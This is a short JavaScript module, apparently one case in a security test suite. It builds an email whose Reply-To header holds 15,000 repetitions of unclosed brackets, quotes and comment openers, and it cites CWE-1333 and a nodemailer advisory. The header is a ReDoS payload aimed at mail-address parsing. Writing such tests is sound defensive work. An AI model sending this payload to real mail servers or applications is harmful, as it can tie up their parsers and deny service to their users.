import { mail } from '../attack.mjs';

/** Opens brackets, quotes and comments in Reply-To that never end. Source: CWE-1333; nodemailer GHSA-mm7p-fcc7-pg87. */
export default mail({ sent: 1, head: { 'Reply-To': `${'<"('.repeat(15_000)} a+x@example.org` } });
